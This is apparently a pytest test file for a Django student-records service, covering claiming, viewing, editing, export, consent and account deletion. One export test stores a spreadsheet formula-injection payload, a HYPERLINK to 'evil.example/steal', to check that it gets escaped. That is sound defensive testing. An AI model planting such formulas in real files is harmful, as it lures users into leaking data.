"""A student's own record: claim, see everything with its source, edit, export, consents, the
yearly confirmation and deleting the account. Every refused action shows nothing changed."""

from __future__ import annotations

import io
import json
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone

from qinghe.accounts.models import User
from qinghe.accounts.services import organisation_get_or_create, user_create
from qinghe.accounts.sms import CODE_RE, MemorySmsSender
from qinghe.core.errors import NotFound
from qinghe.core.models import AuditLog
from qinghe.core.roles import Role
from qinghe.talents import services_self
from qinghe.talents.consent import consent_decisions
from qinghe.talents.models import (
    Consent,
    Destination,
    Education,
    PhoneNumber,
    Source,
    Talent,
    ValueChange,
)
from qinghe.talents.selectors import talent_get_for_viewer
from qinghe.talents.services import NOTICE_VERSION, consent_record, talent_update
from qinghe.talents.services_self import CLAIM_REFUSED
from qinghe.talents.tests.factories import make_id, make_talent

pytestmark = pytest.mark.django_db

OWN_ID = make_id("440784", "20030512", "123")
OTHER_ID = make_id("440784", "20040101", "456")
PASSWORD = "Heshan-home-2026"


@pytest.fixture
def student(personas: dict[str, User]) -> User:
    return personas[Role.STUDENT]


@pytest.fixture
def other_student(db: Any) -> User:
    return user_create(
        username="xuezi2",
        password=PASSWORD,
        role=Role.STUDENT,
        display_name="区浩然",
        phone="13800138111",
    )


@pytest.fixture
def imported(db: Any) -> Talent:
    """A record the education bureau's survey brought in, not yet claimed."""
    return make_talent(name="黄嘉怡", id_number=OWN_ID, phone="13912345678")


@pytest.fixture
def own(student: User, imported: Talent) -> Talent:
    imported.user = student
    imported.save()
    return imported


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def snapshot() -> list[tuple[Any, ...]]:
    return list(
        Talent.objects.order_by("pk").values_list(
            "pk", "user_id", "name", "id_index", "updated_at", "provenance"
        )
    )


# --- claim ------------------------------------------------------------------------------------


def test_a_student_claims_the_imported_record_with_id_name_and_a_code(
    student: User, imported: Talent, settings: Any
) -> None:
    settings.SMS_SENDER = "qinghe.accounts.sms.MemorySmsSender"
    MemorySmsSender.clear()
    client = signed_in(student)
    response = client.post("/me/claim/", {"id_number": OWN_ID, "name": "黄嘉怡"})
    assert response.status_code == 302
    assert response["Location"] == "/me/claim/verify/"
    imported.refresh_from_db()
    assert imported.user_id is None  # an ID and a name prove nothing yet
    client.post("/me/claim/verify/", {"action": "send", "phone": "0"})
    match = CODE_RE.search(MemorySmsSender.outbox[-1].text)
    assert match is not None and MemorySmsSender.outbox[-1].phone == "13912345678"
    response = client.post("/me/claim/verify/", {"action": "confirm", "code": match.group(1)})
    assert response["Location"] == "/me/"
    imported.refresh_from_db()
    assert imported.user_id == student.pk
    assert Talent.objects.count() == 1
    entry = AuditLog.objects.get(
        action="update", target_type="talents.talent", target_id=str(imported.pk)
    )
    assert entry.actor_id == student.pk
    assert entry.summary == "学生本人认领档案（本人短信验证档案登记的手机号）"
    assert entry.data == {"claim": "linked", "method": "sms", "claim_id": entry.data["claim_id"]}
    MemorySmsSender.clear()


def test_a_student_whose_id_is_not_on_file_gets_a_new_record(student: User) -> None:
    response = signed_in(student).post("/me/claim/", {"id_number": OTHER_ID, "name": "李晓彤"})
    assert response.status_code == 302
    talent = Talent.objects.get(user=student)
    assert talent.name == "李晓彤"
    assert talent.id_number == OTHER_ID
    assert talent.provenance["name"]["source"] == Source.STUDENT
    assert talent.provenance["id_number"]["source"] == Source.STUDENT
    assert talent.birth_date is not None and talent.birth_date.isoformat() == "2004-01-01"
    assert (
        AuditLog.objects.filter(
            action="create", target_id=str(talent.pk), data__claim="created"
        ).count()
        == 1
    )


def test_a_wrong_name_and_someone_elses_record_give_the_same_answer_and_change_nothing(
    student: User, other_student: User, imported: Talent
) -> None:
    claimed = make_talent(name="区浩然", id_number=OTHER_ID, phone=None, user=other_student)
    before = snapshot()
    client = signed_in(student)

    wrong_name = client.post("/me/claim/", {"id_number": OWN_ID, "name": "黄佳怡"})
    taken = client.post("/me/claim/", {"id_number": OTHER_ID, "name": "区浩然"})

    assert wrong_name.status_code == taken.status_code == 200
    assert CLAIM_REFUSED in wrong_name.content.decode()
    assert CLAIM_REFUSED in taken.content.decode()
    assert snapshot() == before
    claimed.refresh_from_db()
    assert claimed.user_id == other_student.pk
    assert not Talent.objects.filter(user=student).exists()
    refusals = AuditLog.objects.filter(actor=student, data__claim="refused")
    assert sorted(e.data["why"] for e in refusals) == ["claimed", "name_mismatch"]


def test_claims_are_limited_to_five_a_day_and_the_sixth_changes_nothing(
    student: User, imported: Talent
) -> None:
    client = signed_in(student)
    for _ in range(5):
        client.post("/me/claim/", {"id_number": OWN_ID, "name": "黄佳怡"})
    before = snapshot()
    response = client.post("/me/claim/", {"id_number": OWN_ID, "name": "黄嘉怡"})
    body = response.content.decode()
    assert "今天的认领尝试已达 5 次，请明天再试或联系服务专员" in body
    assert '<strong data-testid="attempts-left">0</strong>' in body
    assert snapshot() == before
    assert AuditLog.objects.filter(actor=student, data__claim="refused").count() == 5
    # The next day the right ID and name go through.
    result = services_self.talent_claim(
        user=student, id_number=OWN_ID, name="黄嘉怡", now=timezone.now() + timedelta(days=1)
    )
    assert result.talent.pk == imported.pk and result.created is False


def test_a_malformed_id_is_a_field_error_and_not_a_counted_attempt(
    student: User, imported: Talent
) -> None:
    before = snapshot()
    response = signed_in(student).post(
        "/me/claim/", {"id_number": OWN_ID[:-1] + "0", "name": "黄嘉怡"}
    )
    assert "身份证号校验位错误" in response.content.decode()
    assert snapshot() == before
    assert services_self.claim_attempts_today(user=student) == 0


def test_a_student_with_a_record_cannot_claim_another(own: Talent, student: User) -> None:
    response = signed_in(student).get("/me/claim/")
    assert response.status_code == 302
    assert response["Location"] == "/me/"


# --- seeing only one's own record --------------------------------------------------------------


def test_a_student_sees_only_their_own_record(
    own: Talent, student: User, other_student: User
) -> None:
    other = make_talent(name="区浩然", id_number=OTHER_ID, phone="13612345670", user=other_student)
    body = signed_in(student).get("/me/").content.decode()
    assert "黄嘉怡" in body and OWN_ID in body and "13912345678" in body
    assert "区浩然" not in body and OTHER_ID not in body and "13612345670" not in body
    with pytest.raises(NotFound):
        talent_get_for_viewer(viewer=student, talent_id=other.pk)
    assert talent_get_for_viewer(viewer=student, talent_id=own.pk) == own
    assert signed_in(student).get(f"/talents/{other.pk}/").status_code == 403


def test_a_student_without_a_record_is_sent_to_claim_one(student: User) -> None:
    response = signed_in(student).get("/me/")
    assert response.status_code == 302
    assert response["Location"] == "/me/claim/"


@pytest.mark.parametrize(
    ("role", "status"),
    [(Role.STUDENT, 302), (Role.AMBASSADOR, 302), (Role.HR_STAFF, 403), (Role.ENTERPRISE_HR, 403)],
)
def test_only_students_and_ambassadors_reach_the_self_service(
    client_as: Any, role: str, status: int
) -> None:
    assert client_as(role).get("/me/").status_code == status


def test_the_menu_offers_my_record_to_students_only(client_as: Any) -> None:
    assert "我的档案" in client_as(Role.STUDENT).get("/workbench/").content.decode()
    assert "我的档案" not in client_as(Role.HR_STAFF).get("/workbench/").content.decode()


# --- the page shows everything with its source ------------------------------------------------


def test_the_page_lists_every_value_with_its_source(own: Talent, student: User) -> None:
    Destination.objects.create(
        talent=own,
        kind=Destination.Kind.EMPLOYED,
        employer="鹤山市雅图仕印刷有限公司",
        source=Source.SURVEY,
    )
    body = signed_in(student).get("/me/").content.decode()
    assert "毕业生调查导入" in body
    assert "华南理工大学" in body and "鹤山市雅图仕印刷有限公司" in body
    assert "请确认你的信息是否仍然准确" in body
    assert "接受服务专员联络" in body and f"告知书版本 {NOTICE_VERSION}" in body


# --- editing -----------------------------------------------------------------------------------


def test_a_student_corrects_contact_details_stamped_as_their_own(
    own: Talent, student: User
) -> None:
    response = signed_in(student).post(
        "/me/edit/",
        {
            "wechat": "jiayi_hs",
            "email": "jiayi@example.cn",
            "hukou_text": "广东省鹤山市沙坪街道",
            "high_school": "鹤山一中",
            "phone": "13712340000",
        },
    )
    assert response.status_code == 302
    own.refresh_from_db()
    assert (own.wechat, own.email, own.hukou_text, own.high_school) == (
        "jiayi_hs",
        "jiayi@example.cn",
        "广东省鹤山市沙坪街道",
        "鹤山一中",
    )
    assert own.provenance["wechat"]["source"] == Source.STUDENT
    assert own.provenance["wechat"]["label"] == "学生本人"
    phones = {p.number: (p.is_current, p.source) for p in own.phones.all()}
    assert phones == {"13912345678": (False, Source.SURVEY), "13712340000": (True, Source.STUDENT)}
    assert own.last_confirmed_at is None


def test_an_invalid_email_is_refused_and_nothing_changes(own: Talent, student: User) -> None:
    before = snapshot()
    response = signed_in(student).post(
        "/me/edit/", {"wechat": "x", "email": "not-an-email", "phone": ""}
    )
    assert response.status_code == 200
    assert "请输入有效的电子邮箱" in response.content.decode()
    assert snapshot() == before


def test_a_student_cannot_change_their_name_through_the_service(own: Talent, student: User) -> None:
    from django.core.exceptions import ValidationError

    before = snapshot()
    with pytest.raises(ValidationError):
        services_self.self_profile_update(talent=own, user=student, data={"name": "黄小怡"})
    assert snapshot() == before


# --- exports -----------------------------------------------------------------------------------


def test_the_json_export_holds_the_provenance_and_the_full_own_id(
    own: Talent, student: User
) -> None:
    response = signed_in(student).get("/me/export.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="qinghe-my-data-')
    data = json.loads(response.content)
    profile = {p["field"]: p for p in data["profile"]}
    assert profile["id_number"]["value"] == OWN_ID
    assert profile["name"]["source"] == Source.SURVEY
    assert data["provenance"]["name"]["source"] == Source.SURVEY
    assert data["provenance"]["id_number"]["source"] == Source.SURVEY
    assert [p["number"] for p in data["phones"]] == ["13912345678"]
    assert [e["university"] for e in data["educations"]] == ["华南理工大学"]
    assert data["account"]["phone"] == student.phone
    exports = AuditLog.objects.filter(action="export", target_id=str(own.pk))
    assert [(e.actor_id, e.count, e.summary) for e in exports] == [
        (student.pk, 1, "本人导出个人数据（JSON）")
    ]


def test_the_xlsx_export_escapes_formulas(own: Talent, student: User) -> None:
    formula = '=HYPERLINK("http://evil.example/steal","点我")'
    talent_update(talent=own, data={"wechat": formula}, source=Source.STUDENT, actor=student)
    response = signed_in(student).get("/me/export.xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[:3] == ["基本信息", "手机号", "教育经历"]
    rows = {row[0]: row for row in workbook["基本信息"].iter_rows(values_only=True)}
    assert rows["微信号"][1] == "'" + formula
    assert rows["微信号"][2] == "学生本人"
    assert rows["身份证号"][1] == OWN_ID
    exports = AuditLog.objects.filter(action="export", target_id=str(own.pk))
    assert [(e.count, e.summary) for e in exports] == [(1, "本人导出个人数据（Excel）")]


# --- consents ----------------------------------------------------------------------------------


def test_granting_and_withdrawing_are_recorded_with_the_notice_version(
    own: Talent, student: User
) -> None:
    client = signed_in(student)
    client.post("/me/consent/", {"purpose": "liaison", "granted": "1"})
    client.post("/me/consent/", {"purpose": "liaison", "granted": "0"})
    rows = list(
        own.consents.order_by("id").values_list(
            "purpose", "granted", "notice_version", "recorded_by"
        )
    )
    assert rows == [
        ("liaison", True, NOTICE_VERSION, student.pk),
        ("liaison", False, NOTICE_VERSION, student.pk),
    ]
    summaries = list(
        AuditLog.objects.filter(target_id=str(own.pk), summary__contains="接受服务专员联络")
        .order_by("id")
        .values_list("summary", flat=True)
    )
    assert summaries == ["同意：接受服务专员联络", "撤回：接受服务专员联络"]


def test_an_unchanged_decision_adds_no_row(own: Talent, student: User) -> None:
    client = signed_in(student)
    client.post("/me/consent/", {"purpose": "matching", "granted": "1"})
    client.post("/me/consent/", {"purpose": "matching", "granted": "1"})
    assert own.consents.count() == 1


def test_sharing_is_withdrawn_per_enterprise_and_never_granted_here(
    own: Talent, student: User
) -> None:
    yatushi = organisation_get_or_create(kind="enterprise", name="鹤山市雅图仕印刷有限公司")
    other = organisation_get_or_create(kind="enterprise", name="鹤山市某电器有限公司")
    consent_record(
        talent=own, purpose="share_enterprise", granted=True, actor=student, enterprise=yatushi
    )
    client = signed_in(student)
    assert "鹤山市雅图仕印刷有限公司" in client.get("/me/").content.decode()

    refused = client.post(
        "/me/consent/",
        {"purpose": "share_enterprise", "granted": "1", "enterprise": other.pk},
        follow=True,
    )
    assert "向企业提供信息的授权须在投递该企业岗位时单独给出" in refused.content.decode()
    missing = client.post(
        "/me/consent/", {"purpose": "share_enterprise", "granted": "0", "enterprise": other.pk}
    )
    assert missing.status_code == 404
    assert own.consents.count() == 1

    client.post(
        "/me/consent/", {"purpose": "share_enterprise", "granted": "0", "enterprise": yatushi.pk}
    )
    latest = own.consents.order_by("-id").first()
    assert latest is not None
    assert (latest.purpose, latest.enterprise_id, latest.granted, latest.notice_version) == (
        "share_enterprise",
        yatushi.pk,
        False,
        NOTICE_VERSION,
    )
    assert own.consents.count() == 2


def test_a_student_cannot_withdraw_another_students_enterprise_consent(
    own: Talent, student: User, other_student: User
) -> None:
    theirs = make_talent(name="区浩然", id_number=OTHER_ID, phone=None, user=other_student)
    firm = organisation_get_or_create(kind="enterprise", name="鹤山市雅图仕印刷有限公司")
    consent_record(
        talent=theirs,
        purpose="share_enterprise",
        granted=True,
        actor=other_student,
        enterprise=firm,
    )
    response = signed_in(student).post(
        "/me/consent/", {"purpose": "share_enterprise", "granted": "0", "enterprise": firm.pk}
    )
    assert response.status_code == 404
    assert list(Consent.objects.values_list("talent_id", "granted")) == [(theirs.pk, True)]


# --- yearly confirmation -----------------------------------------------------------------------


def test_the_yearly_confirmation_records_the_date(own: Talent, student: User) -> None:
    client = signed_in(student)
    assert "请确认你的信息是否仍然准确" in client.get("/me/").content.decode()
    before = timezone.now()
    response = client.post("/me/confirm/")
    assert response.status_code == 302
    own.refresh_from_db()
    assert own.last_confirmed_at is not None
    assert before <= own.last_confirmed_at <= timezone.now()
    assert "请确认你的信息是否仍然准确" not in client.get("/me/").content.decode()
    assert (
        AuditLog.objects.filter(target_id=str(own.pk), summary="本人确认信息仍然准确").count() == 1
    )


def test_confirmation_falls_due_after_a_year(own: Talent) -> None:
    now = timezone.now()
    own.last_confirmed_at = now - timedelta(days=300)
    assert services_self.confirmation_due(own, now=now) is False
    own.last_confirmed_at = now - timedelta(days=366)
    assert services_self.confirmation_due(own, now=now) is True


def test_confirming_while_editing(own: Talent, student: User) -> None:
    signed_in(student).post("/me/edit/", {"wechat": "jiayi_hs", "confirm": "on"})
    own.refresh_from_db()
    assert own.wechat == "jiayi_hs"
    assert own.last_confirmed_at is not None


def test_confirm_refuses_get(own: Talent, student: User) -> None:
    assert signed_in(student).get("/me/confirm/").status_code == 405
    own.refresh_from_db()
    assert own.last_confirmed_at is None


# --- deleting the account ----------------------------------------------------------------------


@pytest.fixture
def full_record(own: Talent, student: User) -> dict[str, Any]:
    firm = organisation_get_or_create(kind="enterprise", name="鹤山市雅图仕印刷有限公司")
    consent_record(talent=own, purpose="liaison", granted=True, actor=student)
    consent_record(talent=own, purpose="matching", granted=True, actor=student)
    consent_record(
        talent=own, purpose="share_enterprise", granted=True, actor=student, enterprise=firm
    )
    talent_update(talent=own, data={"email": "survey@example.cn"}, source=Source.SURVEY, actor=None)
    services_self.self_profile_update(
        talent=own,
        user=student,
        data={"wechat": "jiayi_hs", "email": "mine@example.cn"},
        phone="13712340000",
    )
    return {"firm": firm}


def test_the_delete_page_says_what_is_kept_and_why(own: Talent, student: User) -> None:
    body = signed_in(student).get("/me/delete/").content.decode()
    assert "教育局调查导入的教育经历与毕业去向" in body
    assert "审计日志（至少 6 个月" in body
    assert "行政管理记录" in body
    assert "登录手机号" in body and "撤回" in body


@pytest.mark.parametrize(
    ("password", "confirmation", "error"),
    [
        ("wrong-password", "注销", "密码不正确"),
        ("Qinghe-demo-2026", "删除", "请输入“注销”二字确认"),
    ],
)
def test_a_refused_deletion_changes_nothing(
    own: Talent,
    student: User,
    full_record: dict[str, Any],
    password: str,
    confirmation: str,
    error: str,
) -> None:
    before = (snapshot(), Consent.objects.count(), PhoneNumber.objects.count())
    client = signed_in(student)
    response = client.post("/me/delete/", {"password": password, "confirmation": confirmation})
    assert response.status_code == 200
    assert error in response.content.decode()
    assert (snapshot(), Consent.objects.count(), PhoneNumber.objects.count()) == before
    student.refresh_from_db()
    assert student.is_active and student.username == "xuezi" and student.phone
    assert client.get("/me/").status_code == 200


def test_deleting_the_account_keeps_the_record_and_removes_the_login(
    own: Talent, student: User, full_record: dict[str, Any]
) -> None:
    old_phone = student.phone
    educations = Education.objects.filter(talent=own).count()
    client = signed_in(student)
    response = client.post("/me/delete/", {"password": "Qinghe-demo-2026", "confirmation": "注销"})
    assert response.status_code == 302
    assert response["Location"] == "/"

    student.refresh_from_db()
    assert student.is_active is False
    assert student.username == f"deleted-{student.pk}"
    assert (student.email, student.display_name, student.phone, student.phone_index) == (
        "",
        "",
        "",
        None,
    )
    assert not student.has_usable_password()

    own.refresh_from_db()
    assert own.user_id is None
    assert Education.objects.filter(talent=own).count() == educations == 1
    # Self-entered contact details are gone (also from the change history); what the survey
    # gave stays or comes back.
    assert own.wechat == ""
    assert own.provenance["wechat"]["label"] == "本人注销账号，已删除本人填写的值"
    assert own.email == "survey@example.cn"
    assert own.provenance["email"]["source"] == Source.SURVEY
    assert list(own.phones.values_list("number", "source")) == [("13912345678", Source.SURVEY)]
    history = sorted(
        ValueChange.objects.filter(talent=own).values_list("field", "old_value", "new_value")
    )
    assert history == [("email", "survey@example.cn", "")]
    # Every consent in force is now a withdrawal.
    in_force = consent_decisions(talent=own)
    assert {key: c.granted for key, c in in_force.items()} == {
        ("liaison", None): False,
        ("matching", None): False,
        ("share_enterprise", full_record["firm"].pk): False,
    }
    # The session ended and neither the old username nor the phone signs in.
    assert client.get("/me/")["Location"].startswith("/accounts/login/")
    for typed in ("xuezi", old_phone):
        attempt = Client().post(
            "/accounts/login/", {"username": typed, "password": "Qinghe-demo-2026"}
        )
        assert attempt.status_code == 200
    assert (
        AuditLog.objects.filter(
            action="delete", target_type="accounts.user", target_id=str(student.pk)
        ).count()
        == 1
    )
    closing = AuditLog.objects.get(target_id=str(own.pk), summary__startswith="本人注销账号")
    assert closing.data == {
        "cleared": ["wechat", "email"],
        "phones_removed": 1,
        "consents_withdrawn": 3,
    }


def test_a_student_without_a_record_can_delete_the_account(student: User) -> None:
    response = signed_in(student).post(
        "/me/delete/", {"password": "Qinghe-demo-2026", "confirmation": "注销"}
    )
    assert response.status_code == 302
    student.refresh_from_db()
    assert student.is_active is False
    assert Talent.objects.count() == 0
